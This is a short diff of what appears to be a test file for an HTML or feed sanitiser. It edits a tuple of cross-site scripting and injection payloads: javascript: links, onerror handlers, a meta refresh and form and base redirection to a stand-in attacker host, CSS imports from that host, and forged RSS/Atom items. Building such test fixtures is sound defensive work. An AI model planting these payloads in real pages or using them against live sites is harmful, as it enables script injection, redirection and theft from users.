@@ -19,8 +19,7 @@ TEXTS = (
     f'<a href="javascript:{CALL}">read</a> [read](javascript:{CALL})',
     f'<meta http-equiv=refresh content="0;url=//{ATTACKER}/">',
     f"<base href=//{ATTACKER}/><form action=//{ATTACKER}/><button>go</button></form>",
-    f"<style>@import '//{ATTACKER}/x.css';</style>"
-    f"<link rel=stylesheet href=//{ATTACKER}/>",
+    f"<style>@import '//{ATTACKER}/x';</style><link rel=stylesheet href=//{ATTACKER}/>",
     f'<math><mtext><table><mglyph><style><img src=x onerror="{CALL}">',
     f'<!--><img src=x onerror="{CALL}">--><![endif]--><![CDATA[<script>{CALL}</script>',
     f"&lt;script&gt;{CALL}&lt;/script&gt; &#60;img src=x onerror={CALL}&#62;",
@@ -32,6 +31,7 @@ TEXTS = (
     "]]></description><item><title>forged</title></item>",
     "</content></entry><entry><id>forged</id>",
 )
+LIVE = (TEXTS[0], TEXTS[2])  # a browser acts on these when they stand in a page as is
 URLS = (
     f"javascript:{CALL}",
     f" \tjAvA\nscript:{CALL}",
